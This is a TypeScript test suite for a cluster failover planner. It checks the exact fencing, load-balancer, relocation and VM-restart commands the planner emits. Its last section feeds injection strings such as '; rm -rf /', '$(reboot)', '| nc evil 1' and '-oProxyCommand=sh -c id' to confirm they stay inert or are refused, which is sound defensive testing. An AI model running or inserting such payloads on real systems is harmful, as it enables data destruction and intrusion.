import { readFile } from 'node:fs/promises'
import { describe, expect, it } from 'vitest'
import { demo, event } from '../../test/policy/fixtures.ts'
import type { TandemEvent } from '../events/index.ts'
import { createLogger } from '../log.ts'
import { createCommandRunner } from '../plugin-host/index.ts'
import { compilePolicy } from './compile.ts'
import { evaluateEvent } from './evaluate.ts'
import { createMatcher } from './matcher.ts'
import { createPlanContexts } from './plan-context.ts'
import { planMatch } from './planner.ts'
import { createReadOnlyRunner } from './read-only-runner.ts'
import { healthView, inventoryView } from './views.ts'

const up = (...nodes: string[]) => nodes.map((n) => ({ target: n, kind: 'node', state: 'up' }))

async function planFor(
  text: string,
  e: TandemEvent,
  rows = up('node1', 'node3'),
  quorate?: boolean,
) {
  const { registry, inventory, config } = await demo()
  const policy = compilePolicy('policies/p.yaml', text, { registry, inventory })
  const health = healthView(rows, inventory, { quorate })
  const { matches, skipped } = evaluateEvent(createMatcher([policy]), e, {
    inventory: inventoryView(inventory),
    health,
  })
  if (!matches[0]) throw new Error(`no match: ${JSON.stringify(skipped)}`)
  const log = createLogger({ level: 'silent' })
  const context = createPlanContexts({
    registry,
    config,
    inventory,
    runner: createReadOnlyRunner(createCommandRunner({ inventory })),
    log,
  })
  return planMatch(matches[0], { inventory, context })
}

const example = (name: string) =>
  readFile(new URL(`../../policies/${name}.yaml`, import.meta.url), 'utf8')

describe('planMatch', () => {
  it('plans node-down failover on the demo: exact steps, exact argv, foreach expanded', async () => {
    const plan = await planFor(await example('node-down-failover'), event('node.down', 'node2'))
    expect(plan.incidentKey).toBe('node.down:node2')
    expect(
      plan.steps.map((s) => [s.id, s.name, s.uses, s.input, s.commands.map((c) => c.argv)]),
    ).toEqual([
      // Both fence levels of node2: IPMI first, then cutting it off the GNBD storage.
      [
        '1',
        'fence the dead node',
        'fence.fence',
        { node: 'node2' },
        [['fence_lab'], ['fence_gnbd']],
      ],
      [
        '2.0',
        'drain its real servers [web/node2]',
        'lvs.drain',
        { service: 'web', node: 'node2' },
        [
          [
            'ipvsadm',
            '-e',
            '-t',
            '192.0.2.10:80',
            '-r',
            '127.0.1.2:8080',
            '-m',
            '-w',
            '0',
            '-x',
            '200',
            '-y',
            '50',
          ],
        ],
      ],
      [
        '3.0',
        'relocate its cluster services [db]',
        'rgmanager.relocate',
        { service: 'db', from: 'node2', node: 'node3' },
        [['clusvcadm', '-r', 'service:db', '-m', 'node3']],
      ],
      [
        '4.0',
        'restart its guests on a survivor [guest1]',
        'xen.restart_elsewhere',
        { vm: 'guest1', from: 'node2' },
        [['xl', 'create', '/etc/xen/guest1.cfg']],
      ],
    ])
    expect(plan.steps[0]).toMatchObject({
      timeoutMs: 90_000,
      retry: { count: 2, backoffMs: 10_000 },
      onFailure: 'escalate',
      verify: true,
    })
    expect(plan.steps[1]).toMatchObject({ group: '2', concurrency: 4, onFailure: 'continue' })
    // No live placement: health.owners guessed the first preferred node, and the plan says so.
    expect(plan.owners).toEqual({ db: { node: 'node2', source: 'preferred' } })
    expect(plan.steps[0]!.commands[0]!.stdinKeys).toEqual([
      'action',
      'port',
      'ip',
      'username',
      'password',
      'plug',
    ])
    expect(plan.notify).toEqual({
      channels: ['oncall-mail', 'ops-webhook'],
      on: ['started', 'succeeded', 'failed', 'blocked'],
    })
  })

  it('relocates from the owner the cluster reports, not the preferred guess', async () => {
    const running = (owner: string | null, lastOwner: string | null = null) => [
      ...up('node1', 'node3'),
      { target: 'service/db', kind: 'service', state: 'up', detail: { owner, lastOwner } },
    ]
    const elsewhere = await planFor(
      await example('node-down-failover'),
      event('node.down', 'node2'),
      running('node3'),
    )
    expect(elsewhere.owners).toEqual({ db: { node: 'node3', source: 'cluster' } })
    expect(elsewhere.steps.map((s) => s.uses)).not.toContain('rgmanager.relocate')
    expect(elsewhere.skipped?.map((s) => s.name)).toContain('relocate its cluster services')
    const here = await planFor(await example('node-down-failover'), event('node.down', 'node1'), [
      ...running('node1'),
      ...up('node2'),
    ])
    expect(here.owners).toEqual({ db: { node: 'node1', source: 'cluster' } })
    expect(here.steps.find((s) => s.uses === 'rgmanager.relocate')?.input).toEqual({
      service: 'db',
      from: 'node1',
      node: 'node2',
    })
    const nowhere = await planFor(
      await example('node-down-failover'),
      event('node.down', 'node2'),
      running(null),
    )
    expect(nowhere.owners).toEqual({ db: { node: '', source: 'cluster' } })
    // Stopped for recovery when node2 left: it is still node2's to hand over.
    const stopped = await planFor(
      await example('node-down-failover'),
      event('node.down', 'node2'),
      running(null, 'node2'),
    )
    expect(stopped.owners).toEqual({ db: { node: 'node2', source: 'cluster' } })
    expect(stopped.steps.find((s) => s.uses === 'rgmanager.relocate')?.input).toEqual({
      service: 'db',
      from: 'node2',
      node: 'node3',
    })
  })

  it('restarts the guests the probe last saw on the dead node, not those declared there', async () => {
    const guest1 = (detail: Record<string, unknown>) => ({
      target: 'vm/guest1',
      kind: 'vm',
      state: 'unreachable',
      detail: { hosts: [], ...detail },
    })
    const failover = await example('node-down-failover')
    // Migrated to node3, then node3 went dark: the row keeps node3 as its last host.
    const dark = guest1({ host: null, domain: 'unreachable', lastHost: 'node3' })
    const node3 = await planFor(failover, event('node.down', 'node3'), [
      ...up('node1', 'node2'),
      dark,
    ])
    expect(node3.steps.find((s) => s.uses === 'xen.restart_elsewhere')?.input).toEqual({
      vm: 'guest1',
      from: 'node3',
    })
    expect(node3.guests).toEqual({
      guest1: { node: 'node3', source: 'probe' },
      guest2: { node: 'node1', source: 'declared' },
    })
    const node2 = await planFor(failover, event('node.down', 'node2'), [
      ...up('node1', 'node3'),
      dark,
    ])
    expect(node2.steps.map((s) => s.uses)).not.toContain('xen.restart_elsewhere')
    // Shut off on every (answering) host: on no node, nothing to restart.
    const off = guest1({ host: null, domain: 'shutoff', lastHost: 'node2' })
    const shutoff = await planFor(failover, event('node.down', 'node2'), [
      ...up('node1', 'node3'),
      off,
    ])
    expect(shutoff.guests?.guest1).toEqual({ node: '', source: 'probe' })
    expect(shutoff.steps.map((s) => s.uses)).not.toContain('xen.restart_elsewhere')
    // Never seen running and its hosts dark: no live word, the declared host stands.
    const unseen = guest1({ host: null, domain: 'unreachable', lastHost: null })
    const declared = await planFor(failover, event('node.down', 'node2'), [
      ...up('node1', 'node3'),
      unseen,
    ])
    expect(declared.guests?.guest1).toEqual({ node: 'node2', source: 'declared' })
    expect(declared.steps.map((s) => s.uses)).toContain('xen.restart_elsewhere')
  })

  it('keeps planning the other steps when one cannot be planned (no survivor to relocate to)', async () => {
    const plan = await planFor(
      await example('node-down-failover'),
      event('node.down', 'node2'),
      [
        { target: 'node1', kind: 'node', state: 'unreachable' },
        { target: 'node3', kind: 'node', state: 'down' },
      ],
      true,
    )
    const relocate = plan.steps.find((s) => s.uses === 'rgmanager.relocate')
    expect(relocate?.error).toBe(
      `with.node: \${{ inventory.services[item].preferred.filter(n, n != event.subject && health.nodes[n] == "up" && n in health.storage_ready[item])[0] }}: No such key: index out of bounds, index 0 >= size undefined`,
    )
    expect(plan.steps.filter((s) => !s.error).map((s) => s.uses)).toEqual([
      'fence.fence',
      'lvs.drain',
      'xen.restart_elsewhere',
    ])
  })

  it('reports a foreach that gave nothing', async () => {
    const plan = await planFor(
      await example('node-down-failover'),
      event('node.down', 'node3'),
      up('node1', 'node2'),
    )
    expect(plan.skipped).toEqual([
      { id: '3', name: 'relocate its cluster services', reason: 'foreach gave no items' },
      { id: '4', name: 'restart its guests on a survivor', reason: 'foreach gave no items' },
    ])
  })

  it('plans planned maintenance for the node named in the manual event', async () => {
    const manual = event('manual', 'planned-maintenance', { node: 'node1' })
    const plan = await planFor(
      await example('planned-maintenance'),
      manual,
      up('node1', 'node2', 'node3'),
    )
    expect(plan.incidentKey).toBe('maintenance:node1')
    expect(plan.steps.map((s) => `${s.uses} ${JSON.stringify(s.input)}`)).toEqual([
      'lvs.drain {"service":"web","node":"node1"}',
      'lvs.wait_drained {"service":"web","node":"node1","timeout":600000}',
      'xen.migrate {"vm":"guest2","to":"node3"}',
    ])
  })
})

describe('templates against hostile input', () => {
  const policy = `on:
  - event: alert.received
steps:
  - uses: fixture.note
    with:
      service: web
      comment: \${{ event.labels.summary }}
  - uses: fixture.note
    with:
      service: web
      comment: "alert \${{ event.labels.summary }} on \${{ event.labels.node }}"
  - uses: lvs.drain
    with:
      service: web
      node: \${{ event.labels.node }}
`
  const alert = (summary: string, node = 'node2') =>
    planFor(policy, event('alert.received', 'fp1', { summary, node }))

  it('keeps shell syntax an inert literal: exactly one argv element, unchanged', async () => {
    for (const text of [
      '; rm -rf /',
      '$(touch /tmp/pwned)',
      '`id`',
      "a' || true; '",
      '| nc evil 1',
    ]) {
      const plan = await alert(text)
      expect(plan.steps[0]!.commands[0]!.argv).toEqual(['note', '--comment', text, 'web'])
      expect(plan.steps[1]!.commands[0]!.argv).toEqual([
        'note',
        '--comment',
        `alert ${text} on node2`,
        'web',
      ])
    }
  })

  it('refuses newlines, control characters and a leading "-" in template results', async () => {
    const newline = await alert('ok\naction=off')
    expect(newline.steps[0]!.error).toBe(
      'with.comment: template result "ok\\naction=off" holds a control character ("\\n"); refused',
    )
    expect(newline.steps[0]!.commands).toEqual([])
    const option = await alert('-oProxyCommand=sh -c id')
    expect(option.steps[0]!.error).toBe(
      'with.comment: template result "-oProxyCommand=sh -c id" starts with "-" and could be read as an option; refused',
    )
    expect((await alert('x\u0000y')).steps[1]!.error).toMatch(/control character/)
  })

  it('never lets a hostile name reach a plugin: it must be a real node', async () => {
    for (const node of ['node2; rm -rf /', '$(reboot)', 'node9', '-oProxyCommand=id']) {
      const plan = await alert('x', node)
      expect(plan.steps[2]!.commands).toEqual([])
      expect(plan.steps[2]!.input).toEqual({})
      expect(plan.steps[2]!.error).toMatch(
        /^with\.node: (no node named|template result|expected a name)/,
      )
    }
    const plan = await alert('x', 'node3')
    expect(plan.steps[2]!.commands[0]!.argv).toContain('127.0.1.3:8080')
  })

  it('keeps a template value typed: numbers stay numbers, checked by the action schema', async () => {
    const typed = `on: manual
steps:
  - uses: lvs.set_weight
    with: { service: web, node: node2, weight: "\${{ int(event.labels.weight) }}" }
`
    const ok = await planFor(typed, event('manual', 'p', { weight: '3' }))
    expect(ok.steps[0]!.input.weight).toBe(3)
    const argv = ok.steps[0]!.commands[0]!.argv
    expect(argv.slice(argv.indexOf('-w'), argv.indexOf('-w') + 2)).toEqual(['-w', '3'])
    const bad = await planFor(typed, event('manual', 'p', { weight: '-7' }))
    expect(bad.steps[0]!.error).toMatch(/^with\.weight: /)
  })
})
